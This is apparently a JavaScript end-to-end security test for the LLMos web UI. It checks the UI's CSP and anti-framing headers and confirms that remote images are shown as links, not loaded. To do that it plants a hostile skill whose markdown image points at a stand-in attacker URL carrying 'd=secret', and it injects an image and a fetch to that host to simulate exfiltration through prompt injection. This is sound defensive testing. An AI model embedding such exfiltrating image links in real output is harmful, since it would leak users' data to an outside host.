// The web UI under its Content-Security-Policy, against a real LLMos (local mode) whose model is a fake on
// loopback that answers with a remote image, as an injected skill could make it do. Run by
// dev.llmos.web.WebUiSecurityEndToEndTests (LLMOS_URL, ATTACKER_URL, SCREENSHOTS), which checks that the
// "attacker" server never got a request. By hand: LLMOS_URL=... ATTACKER_URL=http://127.0.0.1:9 node e2e/security.mjs
import { launch, BASE, SHOTS, signedIn, step } from './browser.mjs';

const ATTACKER = process.env.ATTACKER_URL ?? 'http://127.0.0.1:9';
const fail = (why) => {
  throw new Error(why);
};

/** Records every CSP violation of the page (blocked URI and directive) in window.__csp. */
async function recordViolations(page) {
  await page.addInitScript(() => {
    window.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      window.__csp.push(`${e.effectiveDirective} ${e.blockedURI}`),
    );
  });
}
const violations = (page) => page.evaluate(() => window.__csp ?? []);

const head = await fetch(BASE + '/');
for (const [name, want] of [
  ['content-security-policy', /img-src 'self' data:.*frame-ancestors 'none'/],
  ['x-frame-options', /DENY/],
  ['x-content-type-options', /nosniff/],
  ['referrer-policy', /no-referrer/],
]) {
  if (!want.test(head.headers.get(name) ?? '')) fail(`${name}: ${head.headers.get(name)}`);
}
if (/unsafe-inline|unsafe-eval/.test(head.headers.get('content-security-policy').split('script-src')[1].split(';')[0])) {
  fail('script-src allows inline script');
}
step('the UI is served with a strict CSP, no framing, nosniff, no referrer');

// A skill with a remote image in its body, as a hostile import or a compromised team volume would hold.
const created = await fetch(BASE + '/skills', {
  method: 'POST',
  headers: { 'Content-Type': 'application/json' },
  body: JSON.stringify({
    user_id: 'mallory', skill_id: 'pixel', name: 'Pixel', description: 'Use when testing images',
    content: `## Chart\n\n![chart](${ATTACKER}/skill-image?d=secret)\n`,
  }),
});
if (created.status !== 201) fail(`skill not created: ${created.status} ${await created.text()}`);

const browser = await launch();
try {
  const { page, errors } = await signedIn(browser, 'mallory');
  await page.getByRole('navigation', { name: 'Main' }).waitFor();
  await recordViolations(page); // from the next load on
  await page.reload();
  await page.getByRole('navigation', { name: 'Main' }).waitFor();

  await page.goto(BASE + '/ui/skills/pixel?volume=users/mallory');
  const link = page.locator('a.remote-image');
  await link.waitFor();
  if (!(await link.textContent()).includes('127.0.0.1')) fail(`link text: ${await link.textContent()}`);
  if ((await page.locator(`img[src^="${ATTACKER}"]`).count()) > 0) fail('the skill page has a remote <img>');
  step('a remote image in a skill is shown as a link, not loaded');

  await page.getByRole('link', { name: 'Chat', exact: true }).click();
  await page.getByLabel('Message').fill('Draw me a chart');
  await page.getByLabel('Message').press('Enter');
  const turn = page.locator('article.turn').last();
  await turn.locator('.meta', { hasText: 'tokens' }).waitFor();
  await turn.locator('a.remote-image').waitFor();
  if ((await turn.locator('img').count()) > 0) fail('the answer rendered an <img>');
  await page.screenshot({ path: `${SHOTS}/security-remote-image-as-link.png` });
  step("a remote image in the model's answer is shown as a link, not loaded");

  // The second line: were an image to get into the page anyway, the CSP refuses to load it.
  await page.evaluate((url) => {
    const img = new Image();
    img.src = url + '/injected?d=secret';
    document.body.append(img);
    fetch(url + '/fetched?d=secret', { mode: 'no-cors' }).catch(() => {});
  }, ATTACKER);
  await page.waitForFunction(() => window.__csp.length >= 2);
  const blocked = await violations(page);
  if (!blocked.some((v) => v.startsWith('img-src') && v.includes('/injected'))) fail(`no img-src violation: ${blocked}`);
  if (!blocked.some((v) => v.startsWith('connect-src') && v.includes('/fetched'))) fail(`no connect-src violation: ${blocked}`);
  step('an injected image and fetch are blocked by the CSP');

  // The skill editor (CodeMirror, loaded on demand) works under the CSP.
  await page.evaluate(() => {
    window.__csp = [];
  });
  await page.goto(BASE + '/ui/skills/pixel/edit?volume=users/mallory');
  await page.locator('.cm-editor').waitFor();
  await page.locator('.cm-content').click();
  await page.keyboard.type('more text');
  await page.getByText('more text').first().waitFor();
  const editorViolations = (await violations(page)).filter((v) => !v.includes(ATTACKER.replace('http://', '')));
  if (editorViolations.length) fail(`the editor broke the CSP: ${editorViolations}`);
  step('the CodeMirror editor runs under the CSP');

  // Swagger UI at /docs renders the API under its policy.
  const docs = await browser.newPage();
  await recordViolations(docs);
  await docs.goto(BASE + '/docs');
  await docs.locator('.opblock').first().waitFor({ timeout: 20_000 });
  const docsViolations = await violations(docs);
  if (docsViolations.length) fail(`/docs broke the CSP: ${docsViolations}`);
  await docs.screenshot({ path: `${SHOTS}/security-docs.png` });
  step(`/docs renders ${await docs.locator('.opblock').count()} operations with no CSP violation`);

  // Another site cannot frame the UI (clickjacking).
  const framer = await browser.newPage();
  await framer.setContent(`<iframe id="f" src="${BASE}/" width="400" height="300"></iframe>`);
  await framer.waitForTimeout(1500);
  const framed = framer.frames().find((f) => f !== framer.mainFrame());
  const framedText = framed ? await framed.evaluate(() => document.body?.innerText ?? '').catch(() => '') : '';
  if (/Sign in|LLMos/.test(framedText)) fail('the UI rendered inside another page');
  step('the UI refuses to be framed');

  if (errors.length) fail(`page errors: ${errors.join('; ')}`);
} finally {
  await browser.close();
}
console.log('e2e: security passed');
